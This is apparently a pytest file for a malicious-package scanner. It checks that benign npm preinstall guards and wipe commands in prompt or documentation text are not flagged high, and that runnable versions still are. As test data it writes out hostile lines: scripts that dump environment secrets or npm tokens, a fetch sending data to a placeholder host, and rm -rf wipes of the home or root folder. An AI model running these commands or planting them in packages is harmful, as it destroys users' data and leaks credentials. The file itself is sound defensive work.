"""False positives of a sweep over popular names of kinds not swept before: cloud, AI, wallet and
telemetry SDKs, prebuilt-binary and generated-code packages, polyfills, editor and extension
tooling, CLIs and release tools (decision 0153).

Each case is a small excerpt of a construct met in a well-known release (named in the test's
docstring), paired with the technique put back where it runs, which must still be found.
"""

from __future__ import annotations

import base64
import json
from pathlib import Path

import pytest

from helpers import heuristic_found as _found
from helpers import heuristic_package as _package

INLINE = "GH-INSTALL-INLINE-EVAL"
WIPE = "GH-SABOTAGE-WIPE"


def _scripted(tmp_path: Path, script: str, files: dict[str, str] | None = None) -> Path:
    """A package whose preinstall is ``script`` (with ``files`` beside its manifest)."""
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    manifest = {"name": "sample", "version": "1.0.0", "scripts": {"preinstall": script}}
    (pkg / "package.json").write_text(json.dumps(manifest))
    for name, text in (files or {}).items():
        (pkg / name).write_text(text)
    return pkg


# autoevals 0.3.0 ``package.json``: the preinstall that refuses any package manager but pnpm.
_PNPM_GUARD = (
    "node -e \"const userAgent = process.env.npm_config_user_agent || ''; "
    "if (process.env.INIT_CWD === process.cwd() && !userAgent.includes('pnpm/')) "
    "{ console.error('Use pnpm in this repo.'); process.exit(1); }\""
)


def test_a_package_manager_guard_reads_no_secret(tmp_path: Path) -> None:
    """autoevals 0.3.0 read GH-INSTALL-INLINE-EVAL high: its preinstall's inline code reads
    ``process.env``, but only the variables the package manager sets for the script (who runs
    it, where the install started), to refuse npm and yarn."""
    assert INLINE not in _found(_scripted(tmp_path, _PNPM_GUARD))


@pytest.mark.parametrize(
    "script",
    [
        # the whole environment, or a variable that is not the package manager's
        'node -e "console.log(JSON.stringify(process.env))"',
        'node -e "const { INIT_CWD } = process.env; console.log(INIT_CWD)"',
        'node -e "if (process.env.INIT_CWD) console.log(process.env.NPM_TOKEN)"',
        "node -e \"console.log(process.env['npm_config__authToken'])\"",
        'node -e "console.log(process.env[process.argv[1]])"',
        # the package manager's variables, in code that loads a module
        "node -e \"require('fs').writeFileSync(process.env.INIT_CWD + '/.npmrc', 'x')\"",
        "node -e \"import('node:fs').then(f => f.rmSync(process.env.INIT_CWD))\"",
        # a guard that also sends
        "node -e \"fetch('https://x.invalid/?' + process.env.npm_config_user_agent)\"",
    ],
)
def test_inline_code_reading_other_variables_stays_high(tmp_path: Path, script: str) -> None:
    assert _found(_scripted(tmp_path, script)).get(INLINE) == "high"


# @codingame/monaco-vscode-api 37.6.1 ``vscode/src/vs/workbench/contrib/chat/browser/tools/
# chatToolRiskAssessmentService.js``: a prompt that asks a model to grade a terminal command,
# its examples lines of a template-literal array joined into one text.
_PROMPT = """function buildTerminalPrompt(tool, argsJson) {
    return [
        `You assess what one terminal command does for a code-editing AI agent.`,
        `Examples:`,
        `  ls -lh                              -> green`,
        `  rm -rf node_modules                 -> orange  (recoverable: reinstall)`,
        `  rm -rf $HOME                        -> red`,
        `  git push --force origin main        -> red`,
        `Arguments (JSON): ${argsJson}`
    ].join("\\n");
}
export { buildTerminalPrompt };
"""
_RUNS_IT = (
    "const cp = require('child_process');\n"
    "export function grade(line) { return cp.execSync(line.split('->')[0]); }\n"
)


def test_a_wipe_command_in_a_prompt_that_runs_nothing_is_text(tmp_path: Path) -> None:
    """@codingame/monaco-vscode-api 37.6.1 read GH-SABOTAGE-WIPE high (plain and at risk): a
    model's prompt lists ``rm -rf $HOME -> red`` among its examples, in a file that starts no
    process and evaluates nothing. A review item, as other text held in such a file."""
    assert _found(_package(tmp_path, _PROMPT, install=True)).get(WIPE) == "medium"


_HIDDEN = base64.b64encode(b"child_process").decode()


@pytest.mark.parametrize(
    ("name", "code"),
    [
        # the prompt's lines given to a process
        ("index.js", _PROMPT + _RUNS_IT),
        # a name hidden in an encoded literal anywhere in the file
        ("index.js", _PROMPT + f"const m = Buffer.from('{_HIDDEN}', 'base64').toString();\n"),
        # a module loaded by a name computed beside the text
        ("index.js", _PROMPT + "const m = require(process.env.M); m.run(buildTerminalPrompt());\n"),
        # JavaScript's own wipe runs where it is
        ("index.js", "const os = require('os'), fs = require('fs');\n"
         "fs.rmSync(os.homedir(), { recursive: true, force: true });\n"),
        # a shell script: every line runs
        ("index.sh", "#!/bin/sh\necho cleaning\nrm -rf $HOME\n"),
    ],
)  # fmt: skip
def test_a_wipe_that_can_run_stays_high(tmp_path: Path, name: str, code: str) -> None:
    assert _found(_package(tmp_path, code, install=True, main=name)).get(WIPE) == "high"


# rulesync 17.0.0 ``dist/cli/index.cjs``: the documentation bundled as one string per page, a
# page 600 KB on one line, beside the CLI's own modules that start processes.
def _doc_line(sentence: str) -> str:
    filler = "Rulesync keeps one ruleset and writes each tool's files from it. " * 40
    return f'const docs = {{ faq: "# FAQ\\n\\n{filler}{sentence}\\n\\n{filler}" }};\n'


_CLI = (
    "const { spawnSync } = require('node:child_process');\n"
    "function gitRoot() { return spawnSync('git', ['rev-parse', '--show-toplevel']); }\n"
)
_REFUSED = (
    "a pattern such as `rm -rf *` is compared with `startsWith` and so never matches `rm -rf /`."
)


def test_a_refused_root_wipe_on_a_long_documentation_line_is_text(tmp_path: Path) -> None:
    """rulesync 16.34.2 and 17.0.0 read GH-SABOTAGE-WIPE high (plain): a bare ``rm -rf /``
    (which rm refuses) in a documentation page bundled as a string on a line too long to read
    for its literals, in a CLI that starts processes in its other modules."""
    code = _CLI + _doc_line(_REFUSED)
    assert _found(_package(tmp_path, code, install=True)).get(WIPE) == "medium"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        # a runner just before the command
        ("index.js", _CLI + _doc_line('"; spawnSync("sh", ["-c", "rm -rf /"]); "')),
        # the home folder, or the root's files, on the same long line
        ("index.js", _CLI + _doc_line("never run `rm -rf ~` here.")),
        ("index.js", _CLI + _doc_line("never run `rm -rf /*` here.")),
        # a long line of a shell script runs
        ("index.sh", "#!/bin/sh\necho " + "x" * 600 + "; rm -rf /\n"),
    ],
)  # fmt: skip
def test_a_root_wipe_that_can_run_stays_high(tmp_path: Path, name: str, code: str) -> None:
    assert _found(_package(tmp_path, code, install=True, main=name)).get(WIPE) == "high"
